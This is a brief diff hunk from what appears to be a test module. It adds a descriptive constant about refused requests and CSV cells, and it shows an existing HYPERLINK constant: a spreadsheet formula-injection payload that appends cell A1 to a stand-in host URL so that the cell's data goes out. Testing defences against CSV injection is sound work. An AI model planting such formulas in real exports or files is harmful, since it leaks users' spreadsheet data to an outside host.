@@ -24,6 +24,8 @@ from tests.helpers import (
     upload,
 )
 
+SAME_ON_EVERY_DATABASE = "requests refused at the door (hosts, origins, sizes) and the CSV's cells"
+
 HYPERLINK = '=HYPERLINK("http://e.x/?"&A1,"ok")'
 
 
